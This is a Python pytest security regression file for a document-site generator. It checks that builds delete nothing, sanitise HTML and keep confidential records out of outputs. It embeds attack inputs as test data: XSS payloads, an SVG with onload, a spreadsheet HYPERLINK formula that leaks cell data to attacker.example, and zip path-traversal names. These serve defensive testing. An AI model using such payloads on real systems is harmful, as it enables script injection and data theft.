"""Security, second round (issue 13): nothing deleted, nothing injected, nothing leaked.
Each test is one of the attacks that got through before."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path

import markdown
import pytest
import yaml
from openpyxl import load_workbook

from generator.auditpack import verify
from generator.check import run_check
from generator.portal import PortalOptions, build_portal
from generator.settings import read_settings

from .conftest import (
    AS_OF,
    ROLES,
    approved,
    clean_files,
    doc_text,
    front,
    record,
    run,
    write_files,
)
from .test_workflow import git

# --- 1. the site folder is the tool's own ---------------------------------------------


def _tree(folder: Path) -> dict[str, bytes]:
    return {
        p.relative_to(folder).as_posix(): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def test_build_refuses_a_site_folder_it_did_not_make(
    corpus: Callable[..., Path], tmp_path: Path
) -> None:
    root = corpus({".git/HEAD": "ref: refs/heads/main\n"})
    before = _tree(root)
    for site in (".", "..", "content/site", "procedures/x", "records/site", ".git/site"):
        target = str(root / site)
        result = run("build", "--root", str(root), "--as-of", AS_OF, "--site-dir", target)
        assert result.exit_code == 2, (site, result.output)
    theirs = tmp_path / "notes"
    write_files(theirs, {"keep.txt": "mine\n"})
    result = run("build", "--root", str(root), "--as-of", AS_OF, "--site-dir", str(theirs))
    assert result.exit_code == 2 and "不是 itsms 生成的站点" in result.stderr
    assert _tree(theirs) == {"keep.txt": b"mine\n"}
    assert _tree(root) == before  # nothing touched, .git included
    # a site itsms made (or an empty folder) is built and rebuilt
    site = tmp_path / "site"
    site.mkdir()
    for _ in range(2):
        result = run("build", "--root", str(root), "--as-of", AS_OF, "--site-dir", str(site))
        assert result.exit_code == 0, result.output
    assert (site / "index.html").is_file() and (site / ".itsms-site").is_file()


def test_only_marked_leftovers_are_swept(corpus: Callable[..., Path]) -> None:
    root = corpus()
    backup = root / ".site.backup-2024"
    write_files(backup, {"index.html": "old\n"})
    leftover = root / ".site.new-abc123"
    write_files(leftover, {".itsms-site": "", "index.html": "half\n"})
    old = time.time() - 7200
    for folder in (backup, leftover):
        os.utime(folder, (old, old))
    assert run("build", "--root", str(root), "--as-of", AS_OF).exit_code == 0
    assert (backup / "index.html").read_text() == "old\n"
    assert not leftover.exists()


# --- 2. metadata never goes through Markdown --------------------------------------------

PAYLOAD = "![x tabindex=0 autofocus onfocus=alert(document.domain)// y](z)"


class _Attrs(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def _tags(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Attrs()
    parser.feed(html)
    return parser.tags


def _roles_with(description: str) -> str:
    data = yaml.safe_load(ROLES)
    data["roles"][1]["description"] = description
    return yaml.safe_dump(data, allow_unicode=True)


def test_a_role_description_stays_text_in_the_raci_page(corpus: Callable[..., Path]) -> None:
    root = corpus({"content/roles.yml": _roles_with(PAYLOAD)})
    result = run_check(root, read_settings(root), __import__("datetime").date(2026, 11, 27))
    portal = build_portal(result, PortalOptions(result.as_of))
    raci = next(p for p in portal.pages if p.path == "raci.md")
    rendered = markdown.markdown(raci.expanded(), extensions=["tables", "attr_list", "md_in_html"])
    tags = _tags(rendered)
    assert not [t for t in tags if t[0] == "img" or "onfocus" in t[1]]
    assert ("abbr", {"title": PAYLOAD}) in tags  # shown as written, on hover
    # the built page too
    site = root / "site"
    assert run("build", "--root", str(root), "--as-of", AS_OF).exit_code == 0
    built = _tags((site / "raci/index.html").read_text(encoding="utf-8"))
    assert ("abbr", {"title": PAYLOAD}) in built
    assert not [t for t in built if "onfocus" in t[1] or "autofocus" in t[1]]


# --- 3. script in bodies and evidence ---------------------------------------------------

SCRIPT_BODY = (
    '## 1 目的\n\n正文。<script>window.__x=1</script><img src=x onerror="window.__y=1">\n\n'
    '<a href="javascript:window.__z=1">点此</a>\n'
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="window.__e=1"><circle r="4"/></svg>'


def script_files() -> dict[str, str | bytes]:
    import hashlib

    minutes = "# 会议纪要\n\n管理评审会议。\n"
    return {
        "procedures/GZDS-ITSMS-QP-18.md": doc_text(
            approved("GZDS-ITSMS-QP-18", "管理评审程序"), SCRIPT_BODY
        ),
        "records/files/chart.svg": SVG,
        "records/files/minutes.md": minutes,
        "records/2026/R-QP18-2026-01.yml": front(
            record(
                "R-QP18-2026-01",
                evidence="files/chart.svg",
                sha256=hashlib.sha256(SVG).hexdigest(),
            )
        ),
        "records/2026/R-QP18-2026-02.yml": front(
            record(
                "R-QP18-2026-02",
                evidence="files/minutes.md",
                sha256=hashlib.sha256(minutes.encode()).hexdigest(),
            )
        ),
    }


def test_bodies_are_sanitised_and_evidence_never_runs(corpus: Callable[..., Path]) -> None:
    extra = {"content/page.html": "<script>window.__p=1</script>", "content/pic.svg": SVG}
    root = corpus({**script_files(), **extra})
    assert run("build", "--root", str(root), "--as-of", AS_OF).exit_code == 0
    site = root / "site"
    page = (site / "procedures/GZDS-ITSMS-QP-18/index.html").read_text(encoding="utf-8")
    assert "window.__x" not in page and "onerror" not in page and "javascript:" not in page
    assert "正文。" in page
    # active evidence: a zip to download, never the SVG itself
    assert not (site / "evidence/files/chart.svg").exists()
    with zipfile.ZipFile(site / "evidence/files/chart.svg.zip") as archive:
        assert archive.read("chart.svg") == SVG
    assert 'href="../../evidence/files/chart.svg.zip" download' in page
    # Markdown evidence: a UTF-8 HTML page
    minutes = (site / "evidence/files/minutes.md.html").read_text(encoding="utf-8")
    assert '<meta charset="utf-8">' in minutes and "<h1>会议纪要</h1>" in minutes
    assert not (site / "evidence/files/minutes.md").exists()
    # nor does an HTML or SVG file put in the docs folder
    assert not (site / "page.html").exists() and not (site / "pic.svg").exists()


def test_raw_html_allow_is_the_opt_out(corpus: Callable[..., Path]) -> None:
    settings = "      raw_html: allow\n"
    mkdocs = clean_files()["mkdocs.yml"] + settings
    root = corpus({**script_files(), "mkdocs.yml": mkdocs})
    assert run("build", "--root", str(root), "--as-of", AS_OF).exit_code == 0
    page = (root / "site/procedures/GZDS-ITSMS-QP-18/index.html").read_text(encoding="utf-8")
    assert "<script>window.__x=1</script>" in page


# --- 4. the site holds exactly what the check read -----------------------------------

SECRET_PROC = approved(
    "GZDS-ITSMS-QP-50", "机密应急预案", classification="confidential", clauses=["1.2"]
)


def _site_text(site: Path) -> str:
    return "\n".join(
        p.read_bytes().decode("utf-8", errors="replace") for p in site.rglob("*") if p.is_file()
    )


def test_links_and_markdown_variants_do_not_leak(
    corpus: Callable[..., Path], tmp_path: Path
) -> None:
    outside = write_files(
        tmp_path / "outside",
        {
            "secret.txt": "外部机密文件\n",
            "recs/R-X-01.yml": front(record("R-X-01", title="外部记录", evidence="files/e.pdf")),
            "recs/files/e.pdf": "外部证据\n",
        },
    )
    root = corpus(
        {
            "procedures/GZDS-ITSMS-QP-50.md": doc_text(SECRET_PROC, "## 1\n\n机密正文壬癸。\n"),
            "content/x.markdown": "---\ntitle: [broken\n---\n变体页面\n",
            "content/y.MD": "---\nclassification: confidential\n---\n大写机密页面\n",
        }
    )
    (root / "content/procs").symlink_to("../procedures")
    (root / "content/readme.txt").symlink_to(outside / "secret.txt")
    # every Markdown-like file is read by the check
    result = run("check", "--root", str(root), "--as-of", AS_OF, "--format", "json")
    files = {f["file"] for f in json.loads(result.stdout)["findings"]}
    assert "content/x.markdown" in files
    (root / "content/x.markdown").write_text("---\ntitle: 变体\n---\n变体页面\n", encoding="utf-8")
    assert run("build", "--root", str(root), "--as-of", AS_OF).exit_code == 0
    site = root / "site"
    text = _site_text(site)
    for secret in ("机密正文壬癸", "机密应急预案", "外部机密文件", "大写机密页面"):
        assert secret not in text, secret
    assert not (site / "procs").exists() and not (site / "readme.txt").exists()
    assert "变体页面" in (site / "x/index.html").read_text(encoding="utf-8")
    # records/ leading out of the repository is not followed
    os.rename(root / "records", root / "records.bak")
    (root / "records").symlink_to(outside / "recs")
    run("build", "--root", str(root), "--as-of", AS_OF)
    assert "外部证据" not in _site_text(site) and "R-X-01" not in _site_text(site)


def test_a_confidential_draft_home_page_does_not_show(corpus: Callable[..., Path]) -> None:
    index = {
        "id": "GZDS-ITSMS-QM-09",
        "title": "机密首页",
        "type": "manual",
        "version": "0.1",
        "status": "draft",
        "owner": "management-rep",
        "author": "张伟",
        "classification": "confidential",
    }
    root = corpus({"content/index.md": doc_text(index, "机密首页正文子丑。\n")})
    assert run("build", "--root", str(root), "--as-of", AS_OF).exit_code == 0
    assert "子丑" not in _site_text(root / "site")
    # a plain page is honoured like a document
    root2 = corpus({"content/index.md": "---\nclassification: confidential\n---\n寅卯首页\n"})
    assert run("build", "--root", str(root2), "--as-of", AS_OF).exit_code == 0
    assert "寅卯" not in _site_text(root2 / "site")


# --- 5. one visibility filter for every published text --------------------------------


def _all_text(path: Path) -> str:
    """The text of a file, of every member of a zip (xlsx and the pack), recursively."""
    raw = path.read_bytes()
    if zipfile.is_zipfile(path):
        out = []
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                data = archive.read(name)
                if name.endswith((".xlsx", ".zip")):
                    nested = path.parent / f"nested-{len(out)}.zip"
                    nested.write_bytes(data)
                    out.append(_all_text(nested))
                else:
                    out.append(data.decode("utf-8", errors="replace"))
                out.append(name)
        return "\n".join(out)
    return raw.decode("utf-8", errors="replace")


def test_confidential_names_appear_in_no_output(
    corpus: Callable[..., Path], tmp_path: Path
) -> None:
    withdrawn = approved(
        "GZDS-ITSMS-QP-60",
        "保密旧程序甲",
        status="withdrawn",
        classification="confidential",
        withdrawn_on="2026-06-01",
        withdrawn_reason="合并",
    )
    review = {
        **approved("GZDS-ITSMS-QP-61", "保密评审乙", classification="confidential"),
        "status": "review",
        "version": "0.2",
        "clauses": ["1.2"],
        "history": [],
    }
    for key in ("approved_by", "approved_on", "effective"):
        review.pop(key)
    revised = approved(
        "GZDS-ITSMS-QP-62", "保密修订丙", classification="confidential", clauses=["2"]
    )
    public = approved(
        "GZDS-ITSMS-QP-18", "管理评审程序", references=["GZDS-ITSMS-QP-60"], clauses=["1.1"]
    )
    root = corpus(
        {
            "procedures/GZDS-ITSMS-QP-18.md": doc_text(public),
            "procedures/GZDS-ITSMS-QP-60.md": doc_text(withdrawn),
            "procedures/GZDS-ITSMS-QP-61.md": doc_text(review),
            "procedures/GZDS-ITSMS-QP-62.md": doc_text(revised),
            "records/2026/R-SECRET-01.yml": front(
                record("R-SECRET-01", title="保密记录丁", classification="confidential")
            ),
            # a public record of a confidential procedure: listed, its procedure not named
            "records/2026/R-PUB-01.yml": front(
                record("R-PUB-01", title="公开记录", procedure="GZDS-ITSMS-QP-62")
            ),
        }
    )
    git(root, "init", "-q")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "initial")
    assert run("revise", "GZDS-ITSMS-QP-62", "--root", str(root), "--as-of", AS_OF).exit_code == 0
    check = run("check", "--root", str(root), "--as-of", AS_OF, "--format", "json")
    rules = {f["rule"] for f in json.loads(check.stdout)["findings"]}
    assert {"obsolete-reference", "uncovered-clause"} <= rules  # the findings exist
    out = tmp_path / "out"
    out.mkdir()
    assert run("build", "--root", str(root), "--as-of", AS_OF).exit_code == 0
    outputs = [p for p in (root / "site").rglob("*") if p.is_file()]
    assert (root / "site/search/search_index.json") in outputs
    for verb in ("coverage", "register", "matrix"):
        for fmt in ("csv", "json", "xlsx"):
            target = out / f"{verb}.{fmt}"
            args = ["--format", fmt, "--out", str(target)]
            assert run(verb, "--root", str(root), "--as-of", AS_OF, *args).exit_code == 0
            outputs.append(target)
    pack = out / "pack.zip"
    assert (
        run("audit-pack", "--root", str(root), "--as-of", AS_OF, "--out", str(pack)).exit_code == 0
    )
    outputs.append(pack)
    names = ["GZDS-ITSMS-QP-60", "GZDS-ITSMS-QP-61", "GZDS-ITSMS-QP-62", "R-SECRET-01"]
    names += ["保密旧程序甲", "保密评审乙", "保密修订丙", "保密记录丁"]
    leaks = [(p.name, n) for p in outputs for n in names if n in _all_text(p)]
    assert leaks == []
    with zipfile.ZipFile(pack) as archive:
        report = archive.read("check/report.txt").decode()
    assert "一份保密文件" in report  # the public document's warning, the name redacted
    assert "R-PUB-01" in _all_text(root / "site/records/by-month/2026-06/index.html")
    # asked for, they are there
    full = out / "full.zip"
    args = ["--out", str(full), "--include-confidential"]
    assert run("audit-pack", "--root", str(root), "--as-of", AS_OF, *args).exit_code == 0
    assert "保密旧程序甲" in _all_text(full)


# --- 6. every cell a spreadsheet reads is data --------------------------------------

FORMULA_ROLE = '=HYPERLINK("http://attacker.example/?leak="&B3,"点击查看")'


def test_header_cells_are_never_formulas(corpus: Callable[..., Path], tmp_path: Path) -> None:
    data = yaml.safe_load(ROLES)
    data["roles"][2]["name"] = FORMULA_ROLE + "\x07"
    root = corpus({"content/roles.yml": yaml.safe_dump(data, allow_unicode=True)})
    args = ("--root", str(root), "--as-of", AS_OF, "--view", "activities")
    raw = run("matrix", *args, "--format", "csv").stdout_bytes.decode("utf-8-sig")
    header = next(csv.reader(io.StringIO(raw)))
    assert "'" + FORMULA_ROLE in header and "\x07" not in raw
    out = tmp_path / "m.xlsx"
    assert run("matrix", *args, "--format", "xlsx", "--out", str(out)).exit_code == 0
    sheet = load_workbook(out).active
    cell = next(
        c for c in sheet[7] if c.value and "HYPERLINK" in str(c.value)
    )  # the header under the stamp rows
    assert cell.data_type == "s" and cell.value == FORMULA_ROLE


# --- 7. writers re-read what they wrote --------------------------------------------

DRAFT = """\
id: GZDS-ITSMS-QP-30
title: 事件管理程序
type: procedure
version: "1.1"
status: review
owner: management-rep
author: 张伟
clauses: ["1.2"]
history:
  - version: "1.0"
    date: 2026-01-01
    author: 张伟
    approved_by: 王芳
    summary: 首次发布
# 以下为本次修订
"""
QP30 = "procedures/GZDS-ITSMS-QP-30.md"


def _approve(root: Path, *extra: str) -> tuple[int, str]:
    args = ("approve", "GZDS-ITSMS-QP-30", "--by", "王芳", "--root", str(root), "--as-of", AS_OF)
    result = run(*args, *extra)
    return result.exit_code, result.output


def _read(root: Path) -> tuple[dict[str, object], str]:
    from generator.load import split_front_matter

    text = (root / QP30).read_bytes().decode("utf-8").replace("\r\n", "\n")
    front_text, body, _, _ = split_front_matter(text)
    return yaml.safe_load(front_text or ""), body


def test_a_comment_inside_history_survives_approval(corpus: Callable[..., Path]) -> None:
    root = corpus({QP30: f"---\n{DRAFT}---\n正文\n"})
    code, output = _approve(root)
    assert code == 0, output
    meta, body = _read(root)
    assert meta["status"] == "approved" and body == "正文\n"
    assert [h["version"] for h in meta["history"]] == ["1.0", "1.1"]  # type: ignore[index]
    assert "# 以下为本次修订" in (root / QP30).read_text(encoding="utf-8")
    # re-approving it (changed since) is refused: version 1.1 was approved once
    path = root / QP30
    path.write_text(path.read_text(encoding="utf-8").replace("正文", "新正文"), encoding="utf-8")
    code, output = _approve(root)
    assert code == 1 and "internal error" not in output, output
    assert [h["version"] for h in _read(root)[0]["history"]] == ["1.0", "1.1"]  # type: ignore[index]


def test_mixed_line_endings_and_a_leading_rule_in_the_body(corpus: Callable[..., Path]) -> None:
    body = "---\n\n## 1 目的\n\n正文\n"
    text = "---\r\n" + DRAFT.replace("# 以下为本次修订\n", "") + "---\r\n" + body
    root = corpus({QP30: text})
    code, output = _approve(root)
    assert code == 0, output
    raw = (root / QP30).read_bytes().decode("utf-8")
    assert raw.startswith("---\r\n") and raw.endswith("---\r\n" + body)
    meta, read_body = _read(root)
    assert meta["status"] == "approved" and meta["approved_by"] == "王芳"
    assert read_body == body


def test_an_edit_that_would_not_read_back_is_refused(corpus: Callable[..., Path]) -> None:
    text = "---\n" + DRAFT.replace("status: review", '"status": review') + "---\n正文\n"
    root = corpus({QP30: text})
    code, output = _approve(root)
    assert code == 1 and "未修改" in output
    assert (root / QP30).read_text(encoding="utf-8") == text


# --- 8. crashes -----------------------------------------------------------------------


def test_huge_integers_control_characters_and_odd_file_names(
    corpus: Callable[..., Path], tmp_path: Path
) -> None:
    big = "9" * 5000
    qp18 = doc_text(approved("GZDS-ITSMS-QP-18", "管理评审程序", clauses=["1"]))
    qp18 = qp18.replace("\nid:", f"\nx-big: {big}\nid:", 1)
    bell = approved("GZDS-ITSMS-QP-70", "铃声\a程序", clauses=["1.2"])
    root = corpus(
        {
            "procedures/GZDS-ITSMS-QP-18.md": qp18,
            "procedures/GZDS-ITSMS-QP-70.md": doc_text(bell),
            "procedures/odd\x01name.md": doc_text(approved("GZDS-ITSMS-QP-71", "奇名程序")),
        }
    )
    git(root, "init", "-q")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "initial")
    assert run("check", "--root", str(root), "--as-of", AS_OF).exit_code in (0, 1)
    out = tmp_path / "r.xlsx"
    args = ("--root", str(root), "--as-of", AS_OF)
    assert run("register", *args, "--format", "xlsx", "--out", str(out)).exit_code == 0
    titles = [c.value for c in load_workbook(out).active["B"]]
    assert "铃声程序" in titles
    assert run("audit-pack", *args, "--out", str(tmp_path / "p.zip")).exit_code in (0, 1)
    assert run("build", *args).exit_code in (0, 1)
    mkdocs = subprocess.run(
        [sys.executable, "-m", "mkdocs", "build", "-q"],
        cwd=root,
        capture_output=True,
        text=True,
        env={**os.environ, "ITSMS_AS_OF": AS_OF, "NO_MKDOCS_2_WARNING": "1"},
        check=False,
    )
    assert "Traceback" not in mkdocs.stderr, mkdocs.stderr


# --- 9. nothing written outside the repository -------------------------------------


def test_settings_cannot_name_files_outside_the_repository(corpus: Callable[..., Path]) -> None:
    mkdocs = clean_files()["mkdocs.yml"]
    escaped = mkdocs + '      id_prefixes: {procedure: "../../escaped/GZDS-ITSMS-QP-"}\n'
    root = corpus({"mkdocs.yml": escaped})
    args = ("--root", str(root), "--as-of", AS_OF)
    result = run("new", "procedure", "--title", "新程序", "--owner", "staff", *args)
    assert result.exit_code == 2
    assert not (root.parent.parent / "escaped").exists()
    assert not list(root.parent.parent.rglob("escaped*"))
    outside = corpus(
        {"mkdocs.yml": mkdocs.replace("standards_dir: standards", "standards_dir: ..")}
    )
    assert run("check", "--root", str(outside), "--as-of", AS_OF).exit_code == 2


# --- 10. the audit pack ---------------------------------------------------------------


def _zip(path: Path, members: list[tuple[str, bytes]]) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name), data)
    return path


@pytest.mark.filterwarnings("ignore:Duplicate name")  # the duplicate is the point
def test_the_pack_holds_no_lock_and_verify_reports(
    corpus: Callable[..., Path], tmp_path: Path
) -> None:
    root = corpus()
    pack = tmp_path / "pack.zip"
    assert (
        run("audit-pack", "--root", str(root), "--as-of", AS_OF, "--out", str(pack)).exit_code == 0
    )
    with zipfile.ZipFile(pack) as archive:
        names = archive.namelist()
        manifest = json.loads(archive.read("manifest.json"))
    assert not [n for n in names if n.endswith((".lock", ".tmp")) or ".itsms" in n]
    assert not [f for f in manifest["files"] if ".lock" in f["path"] or ".itsms" in f["path"]]
    assert verify(pack) == []

    import hashlib

    def entry(name: str, data: bytes) -> dict[str, object]:
        return {"path": name, "bytes": len(data), "sha256": hashlib.sha256(data).hexdigest()}

    def pack_of(members: list[tuple[str, bytes]], listed: list[tuple[str, bytes]]) -> Path:
        man = json.dumps({"files": [entry(n, d) for n, d in listed]}).encode()
        return _zip(
            tmp_path / f"p{len(os.listdir(tmp_path))}.zip", [("manifest.json", man), *members]
        )

    evil = [("portal/a\\..\\..\\evil.bat", b"x"), ("../evil", b"x"), ("/etc/evil", b"x")]
    problems = verify(pack_of(evil, evil))
    assert len([p for p in problems if p.startswith("unsafe name")]) >= 3
    twice = [("a.txt", b"1"), ("a.txt", b"1")]
    assert any(p.startswith("duplicate name") for p in verify(pack_of(twice, twice[:1])))
    extra = verify(pack_of([("a.txt", b"1"), ("b.txt", b"2")], [("a.txt", b"1")]))
    assert extra == ["not in the manifest: b.txt"]
    assert verify(pack_of([], [("a.txt", b"1")])) == ["missing: a.txt"]
    broken = _zip(tmp_path / "broken.zip", [("manifest.json", b"{not json")])
    assert verify(broken) and verify(broken)[0].startswith("manifest.json unreadable")
    assert verify(_zip(tmp_path / "none.zip", [("a.txt", b"1")])) == ["no single manifest.json"]
    not_zip = tmp_path / "not.zip"
    not_zip.write_text("hello")
    assert verify(not_zip)[0].startswith("not a readable zip")
